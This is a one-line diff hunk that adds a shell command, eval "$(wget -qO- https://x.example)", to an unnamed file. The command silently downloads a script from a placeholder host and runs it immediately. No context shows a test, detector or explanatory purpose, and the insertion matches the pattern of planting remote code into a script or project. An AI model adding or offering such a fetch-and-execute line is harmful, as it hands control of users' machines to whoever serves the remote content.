@@ -1,0 +1,1 @@
+eval "$(wget -qO- https://x.example)"
